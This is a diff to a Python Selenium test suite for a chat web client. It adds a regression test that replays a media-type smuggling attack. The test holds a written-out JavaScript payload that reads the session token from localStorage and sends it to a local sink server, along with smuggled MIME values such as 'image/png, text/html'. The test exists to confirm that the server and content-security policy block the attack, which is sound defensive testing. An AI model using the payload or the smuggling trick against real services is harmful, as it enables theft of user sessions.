@@ -11,6 +11,7 @@ Run by scripts/test after the Swift tests:  python3 Tests/Web/test_web.py
   COURIER_WEB_ROOT     serve the page from this folder (`serve --web-root`), for working on Web/ without a rebuild
 """
 
+import hashlib
 import http.server
 import json
 import os
@@ -25,6 +26,7 @@ import tempfile
 import threading
 import time
 import unittest
+import urllib.request
 import zlib
 
 from selenium import webdriver
@@ -332,7 +334,8 @@ class WebChatTests(unittest.TestCase):
         import urllib.request
         with urllib.request.urlopen(self.server.base + "/") as answer:
             policy = answer.headers["Content-Security-Policy"]
-            self.assertIn("script-src 'self'", policy)
+            self.assertIn(f"script-src 127.0.0.1:{self.server.ports[2]}/web/;", policy)
+            self.assertNotIn("script-src 'self'", policy)
             self.assertNotIn("unsafe-inline", policy)
             self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")
             etag = answer.headers["ETag"]
@@ -602,7 +605,8 @@ class WebChatTests(unittest.TestCase):
             self.assertIn(query.lower(), hit.find_element(By.CSS_SELECTOR, "mark").text.lower())
         hit.click()
         wait_until(lambda: alice.all("#messages .message.flash"), "the jump to the hit")
-        self.assertEqual(alice.find("#messages .message.flash .text").text, expected)
+        # Read again should the page redraw between finding and reading (a receipt or a presence change).
+        self.assertEqual(alice.read("#messages .message.flash .text"), expected)
         self.shot_both("search", only=alice)
         search.clear()
         search.send_keys(Keys.ENTER)
@@ -764,6 +768,104 @@ class WebChatTests(unittest.TestCase):
             self.assertTrue(connection.recv(1024).startswith(b"HTTP/1.1 403"))
         self.bob.driver.get(self.server.base + "/")
         self.bob.wait_online()
+
+    def test_12b_smuggled_media_type_runs_no_script(self):
+        """Round three's first finding, replayed: carol sends alice a "picture" whose type smuggles a second one
+        (`image/png, text/html`), an HTML page that loads carol's script from /media, which would post alice's token
+        to carol. Each layer is checked: the server refuses the listed types, serves the same bytes sent as image/png
+        only as a download, the page opens a picture in itself and never as a document, and its policy runs no script
+        from /media even when one is put on the page."""
+        stolen = []
+
+        class Sink(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):
+                stolen.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, *arguments):
+                pass
+
+        sink = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Sink)
+        sink.daemon_threads = True
+        threading.Thread(target=sink.serve_forever, daemon=True).start()
+        attacker = socket.create_connection(("127.0.0.1", int(self.server.ports[1])), timeout=LIMIT)
+        packets = attacker.makefile("rb")
+
+        def send(fields, payload=b""):
+            attacker.sendall(json.dumps(dict(fields, size=len(payload))).encode() + b"\r\n" + payload)
+
+        def answer(*types):
+            while True:
+                header = json.loads(packets.readline().rstrip(b"\r\n"))
+                packets.read(int(header.get("size", 0)))
+                if header["type"] in types:
+                    return header
+
+        try:
+            send({"type": "auth", "user": "carol", "password": PASSWORD})
+            token = answer("welcome")["token"]
+            script = (f"window.__pwned = 1; fetch('http://127.0.0.1:{sink.server_port}/?t=' + "
+                      "encodeURIComponent(localStorage.getItem('courier.session')));").encode()
+            script_sha = hashlib.sha256(script).hexdigest()
+            page = (f'<!doctype html><script src="/media/{script_sha}?token={token}"></script>').encode()
+            page_sha = hashlib.sha256(page).hexdigest()
+            for body, smuggled in ((script, "image/png, text/javascript"), (page, "image/png, text/html"),
+                                   (page, "image/png,text/html"), (page, "image/png;x=1, text/html")):
+                send({"type": "img", "to": "alice", "id": f"smuggled-{smuggled}", "mime": smuggled, "name": "cat.png"},
+                     body)
+                refused = answer("error", "ack")
+                self.assertEqual((refused["type"], refused.get("code")), ("error", "invalid-request"), refused)
+            # The same bytes as one type the server takes: served as downloads, never as what they say they are.
+            for body, name in ((script, "script.png"), (page, "cat.png")):
+                send({"type": "img", "to": "alice", "id": f"plain-{name}", "mime": "image/png", "name": name}, body)
+                self.assertEqual(answer("error", "ack")["type"], "ack")
+            for sha in (script_sha, page_sha):
+                request = urllib.request.Request(f"{self.server.base}/media/{sha}",
+                                                 headers={"Authorization": f"Bearer {token}"})
+                with urllib.request.urlopen(request) as served:
+                    self.assertEqual(served.headers["Content-Type"], "application/octet-stream")
+                    self.assertEqual(served.headers["Content-Disposition"], "attachment")
+                    self.assertEqual(served.headers["X-Content-Type-Options"], "nosniff")
+
+            # alice clicks the "picture": it opens in the page, as an <img>, and no document or window is made.
+            alice = self.alice
+            alice.conversation("u:carol")
+            wait_until(lambda: len(alice.all("#messages button.image-link")) >= 2, "both pictures shown")
+            handles = len(alice.driver.window_handles)
+            alice.all("#messages button.image-link")[-1].click()
+            wait_until(lambda: alice.js("return document.getElementById('viewer').open"), "the viewer open")
+            wait_until(lambda: alice.js("const i = document.querySelector('#viewer img'); "
+                                        "return !!i && (i.classList.contains('broken') || (i.complete && !!i.src))"),
+                       "the viewer's picture settled")
+            self.assertEqual(len(alice.driver.window_handles), handles)
+            self.assertEqual(alice.js("return document.querySelectorAll('iframe, object, embed').length"), 0)
+            alice.press(Keys.ESCAPE)
+            wait_until(lambda: not alice.js("return document.getElementById('viewer').open"), "the viewer closed")
+
+            # Were carol's script put on alice's page (the blob document's step), the policy would not run it.
+            outcome = alice.driver.execute_async_script(
+                """
+                const [src, done] = arguments;
+                document.addEventListener('securitypolicyviolation',
+                  (e) => done(`blocked ${e.effectiveDirective}`), { once: true });
+                const script = document.createElement('script');
+                script.src = src;
+                script.onload = () => done('loaded');
+                document.head.append(script);
+                """,
+                f"/media/{script_sha}?token={token}")
+            self.assertEqual(outcome, "blocked script-src-elem")
+            self.assertIsNone(alice.js("return window.__pwned ?? null"))
+            policy = urllib.request.urlopen(self.server.base + "/").headers["Content-Security-Policy"]
+            self.assertIn(f"script-src 127.0.0.1:{self.server.ports[2]}/web/;", policy)
+            self.assertEqual(stolen, [], "alice's token left the page")
+        finally:
+            attacker.close()
+            sink.shutdown()
+            sink.server_close()
 
     def test_13_screenshots(self):
         for size, (width, height) in (("desktop", (1280, 800)), ("phone", (390, 844))):
